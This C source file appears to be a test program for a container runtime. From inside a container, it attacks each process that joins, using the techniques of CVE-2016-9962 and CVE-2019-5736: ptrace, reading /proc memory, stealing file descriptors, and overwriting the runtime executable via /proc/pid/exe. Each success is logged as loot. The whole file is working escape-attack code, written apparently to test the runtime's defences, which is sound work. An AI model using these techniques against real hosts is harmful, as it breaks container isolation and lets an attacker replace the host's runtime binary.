// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * attack-join LOOT: in a container, against each process that joins it (CVE-2016-9962, CVE-2019-5736). Pids are tried
 * before they are there. What is got of the runtime's process, which a process of the container would not have, is a line in
 * LOOT:
 *
 *	ptrace, memory, fd N TARGET	of a joining process that is not yet the container's program
 *	written NAME			its executable could be written to
 *	exe NAME			which that was, as a proof of having seen one
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define REGION 0x2000000000L /* user/lib/region.h: the config that init was given */

static FILE *loot;

static int is_runtime(const char *exe)
{
	return strstr(exe, "ringwall") || strstr(exe, "memfd");
}

/* Name of the executable, "" if it is hidden. */
static void exe_of(int pid, char *ret, size_t size)
{
	char path[64];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, ret, size - 1);
	ret[n < 0 ? 0 : n] = '\0';
}

static void try_ptrace(int pid)
{
	char exe[256];

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	exe_of(pid, exe, sizeof(exe));
	if (is_runtime(exe))
		fprintf(loot, "ptrace %s\n", exe);
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void try_memory(int pid)
{
	char path[64], byte;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0 && pread(fd, &byte, 1, REGION) == 1)
		fprintf(loot, "memory\n");
	if (fd >= 0)
		close(fd);
}

/* The container's programs here have none above 2. */
static void try_fds(int pid, int pidfd)
{
	char path[64], target[256];
	ssize_t n;

	for (int i = 3; i < 40; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, i);
		n = readlink(path, target, sizeof(target) - 1);
		if (fd < 0 && n < 0)
			continue;
		target[n < 0 ? 0 : n] = '\0';
		fprintf(loot, "fd %d %s\n", i, target);
		if (fd >= 0)
			close(fd);
	}
}

/* Held open from when it ran, written to once that no longer forbids it. */
static void try_exe(int pid)
{
	char path[64], exe[256];
	int fd, out = -1;

	exe_of(pid, exe, sizeof(exe));
	if (!is_runtime(exe))
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	fprintf(loot, "exe %s\n", exe);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 100 && out < 0; i++) {
		out = open(path, O_WRONLY | O_CLOEXEC);
		if (out < 0)
			usleep(1000);
	}
	if (out >= 0 && (pwrite(out, "#!/bad", 6, 0) > 0 || !ftruncate(out, 0)))
		fprintf(loot, "written %s\n", exe);
	if (out >= 0)
		close(out);
	close(fd);
}

/* The last pid given out in this pid namespace, which is loadavg's last number. */
static int newest(int loadavg)
{
	char text[128], *at;
	ssize_t n = pread(loadavg, text, sizeof(text) - 1, 0);

	text[n < 0 ? 0 : n] = '\0';
	at = strrchr(text, ' ');
	return at ? atoi(at) : 0;
}

static void attack(int pid, int pidfd)
{
	for (int i = 0; i < 30; i++) {
		try_memory(pid);
		try_fds(pid, pidfd);
		try_exe(pid);
		if (i % 8 == 0)
			try_ptrace(pid);
	}
}

int main(int argc, char **argv)
{
	int loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC), last = getpid();

	loot = argc == 2 ? fopen(argv[1], "we") : NULL;
	if (!loot || loadavg < 0)
		return 2;
	setvbuf(loot, NULL, _IOLBF, 0);
	fprintf(loot, "ready\n");
	for (;;) {
		int end = newest(loadavg) + 2;

		for (int pid = last + 1; pid < end; pid++) {
			int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

			if (pidfd < 0)
				continue;
			attack(pid, pidfd);
			close(pidfd);
			last = pid;
		}
		/* Those that came and went. */
		if (last < end - 3)
			last = end - 3;
	}
}
